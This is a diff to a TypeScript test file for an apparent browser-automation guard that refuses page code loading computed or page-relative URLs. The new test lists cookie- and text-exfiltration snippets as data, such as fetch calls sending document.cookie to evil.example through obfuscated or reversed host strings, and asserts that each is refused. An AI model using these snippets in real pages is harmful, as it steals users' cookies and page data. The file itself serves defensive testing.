@@ -305,7 +305,7 @@ t.test('a URL the code assembles from literal pieces is read as that URL, in any
   ), { numRuns: FUZZ_RUNS * 10, ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }) });
 });
 
-t.test('a URL whose host the code makes at run time is refused; the page\'s own site and text made of pieces are not', async (t) => {
+t.test('a URL whose host the code makes at run time is refused; text made of pieces is not', async (t) => {
   const host = ['h', 'atob(h)', 'String.fromCharCode(...codes)', "['evil', 'example'].join(sep)", 'hosts[i]'];
   const around: Array<(h: string) => string> = [
     (h) => `fetch('//' + ${h} + '/c?d=4111')`,
@@ -324,10 +324,6 @@ t.test('a URL whose host the code makes at run time is refused; the page\'s own 
     }
   }
   for (const code of [
-    "fetch(location.protocol + '//' + location.host + '/api/items')",
-    "fetch('//' + location.hostname + '/x')",
-    'fetch(`${location.origin}/api`)',
-    'fetch(`//${window.location.host}/x`)',
     "document.title = 'Total: ' + n + ' items'",
     'String.fromCharCode(65, 66) + String.fromCharCode(code)',
     "['a', 'b'].join(', ')",
@@ -586,4 +582,45 @@ t.test('control: code that reads (a GET written out, text saying post or delete)
     JSON.stringify(cdp('Runtime.callFunctionOn', { functionDeclaration: '(s) => document.querySelector(s).click()', arguments: [{ value: 'form button[type=submit]' }], objectId: 'o1' })),
   ];
   t.same(await session(msgs, [], 'browser.example'), { code: 1000, replies: msgs.length }, 'all answered');
+});
+
+// A load whose URL the code computes, or makes relative to the page (twenty-first pass): `fetch(u)`
+// with `u = s + s + h`, a reversed string, `fetch('/c?d=' + x)`, `location.search = '?d=…'`: the
+// host is chosen when the code runs, or is the page's, which the tunnel does not know (a click may
+// have taken it anywhere; a page reached by a served link takes that exact link only). Each was
+// relayed. Now it closes the socket; an absolute URL written out, or whose scheme, host and the
+// delimiter after it are (the rest computed), is decided as before.
+t.test('a load whose URL the code computes or makes relative to the page closes the socket', async (t) => {
+  for (const code of [
+    "const s = '/'; fetch(s + s + 'evil.example/c?d=' + document.cookie)",
+    "fetch('elpmaxe.live//:sptth'.split('').reverse().join('') + '/?d=4111')",
+    "fetch('/c?d=' + document.cookie)",
+    'fetch(`/c?d=${document.cookie}`)',
+    "location.search = '?d=' + encodeURIComponent(document.body.innerText)",
+    "location.href = u",
+    "new Image().src = 'https:' + x",
+    "document.querySelector('img').setAttribute('src', base + '/p.png')",
+    "const x = new XMLHttpRequest(); x.open('GET', path); x.send()",
+    "window.open(link)",
+    "new EventSource(endpoint)",
+    "fetch(location.protocol + '//' + location.host + '/api/items?d=' + d)",
+    'fetch(`${location.origin}/api?d=${d}`)',
+  ]) {
+    const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code })));
+    t.ok(r.refused, `refused: ${code}`);
+  }
+  t.equal((await session([JSON.stringify(cdp('Runtime.evaluate', { expression: "fetch('/c?d=' + document.cookie)" }))], [], 'browser.example')).code, 1008, 'through the socket');
+  t.notOk(ranText().includes("'/c?d='"), 'nothing reached the browser');
+  for (const code of [
+    "fetch('https://docs.example/api/search?q=' + encodeURIComponent(q)).then((r) => r.json())",
+    'fetch(`https://docs.example/api/items/${id}`)',
+    "location.hash = '#section-2'",
+    "document.open(); document.write(html); document.close()",
+    "img.src = ''",
+    "el.setAttribute('hidden', 'true'); el.setAttribute('popover', value)",
+    "const re = /x/; 'abc'.replace(re, 'y')",
+  ]) {
+    const r = cdpLoadsOf(JSON.stringify(cdp('Runtime.evaluate', { expression: code })));
+    t.ok(!r.refused && r.urls.every((u) => new URL(u).hostname === 'docs.example'), `goes on: ${code} (${JSON.stringify(r)})`);
+  }
 });
